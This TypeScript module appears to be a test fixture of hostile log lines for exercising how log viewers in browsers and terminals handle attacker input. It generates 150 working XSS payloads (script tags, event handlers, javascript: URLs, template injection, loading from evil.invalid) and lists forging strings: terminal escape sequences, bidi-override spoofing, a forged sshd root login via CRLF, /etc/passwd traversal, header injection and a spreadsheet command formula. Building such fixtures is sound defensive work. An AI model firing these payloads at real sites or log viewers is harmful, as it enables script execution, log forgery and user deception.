/** Log lines an attacker would send at whoever reads them in a browser or a terminal. */

const SCRIPTS = ["alert(1)", "alert`1`", "window.__pwned=1", "confirm(document.domain)", "prompt(1)"];
const FRAMES = [
  (js: string) => `<script>${js}</script>`,
  (js: string) => `</script><script>${js}</script>`,
  (js: string) => `<img src=x onerror="${js}">`,
  (js: string) => `<svg onload=${js}>`,
  (js: string) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js: string) => `"><img src=x onerror=${js}>`,
  (js: string) => `'-${js}-'`,
  (js: string) => `javascript:${js}`,
  (js: string) => `<a href="javascript:${js}">click</a>`,
  (js: string) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js: string) => `<iframe src="javascript:${js}"></iframe>`,
  (js: string) => `<body onload=${js}>`,
  (js: string) => `<details open ontoggle=${js}>`,
  (js: string) => `<input autofocus onfocus=${js}>`,
  (js: string) => `<video><source onerror=${js}>`,
  (js: string) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js: string) => `<style>@import 'javascript:${js}'</style>`,
  (js: string) => `<div style="background:url(javascript:${js})">`,
  (js: string) => `<object data="javascript:${js}"></object>`,
  (js: string) => `<embed src="javascript:${js}">`,
  (js: string) => `<base href="//evil.invalid/"><script src=x.js></script>`.concat(js),
  (js: string) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js: string) => `<link rel=stylesheet href=//evil.invalid/x.css>${js}`,
  (js: string) => `{{constructor.constructor('${js}')()}}`,
  (js: string) => `\${${js}}`,
  (js: string) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js: string) => `<template><script>${js}</script></template>`,
  (js: string) => `&lt;script&gt;${js}&lt;/script&gt;`,
  (js: string) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  (js: string) => `--><!-- --><script>${js}</script>`,
];

/** 150 ways to run a script from a log line. */
export const XSS_LINES: readonly string[] = FRAMES.flatMap((frame) => SCRIPTS.map((script) => frame(script)));

/** Lines that forge, hide or move text. */
export const FORGING_LINES: readonly string[] = [
  "\u001b[2J\u001b[31mroot login OK\u001b[0m",
  "\u001b]0;title\u0007\u001b]8;;http://evil.invalid\u001b\\link\u001b]8;;\u001b\\",
  "user \u202enimda\u202c logged in",
  "file invoice\u202egpj.exe opened",
  "\u2066a\u2069\u2067b\u2069 isolates",
  "ad\u200bmin zero\u200dwidth \ufeffmark",
  "line one\u2028line two\u2029line three",
  "tags \u{e0041}\u{e0042}\u{e007f}",
  `zalgo ${"o\u0301\u0316\u0317\u0318".repeat(40)}`,
  "NUL \u0000 and backspace \b\b\b",
  "--- \r\nNov 21 00:00:00 fake sshd[1]: Accepted password for root",
  `long ${"A".repeat(20_000)}`,
  "/proc/self/environ ../../../../etc/passwd %00 %0d%0aSet-Cookie:x=1",
  "=cmd|' /C calc'!A0",
];
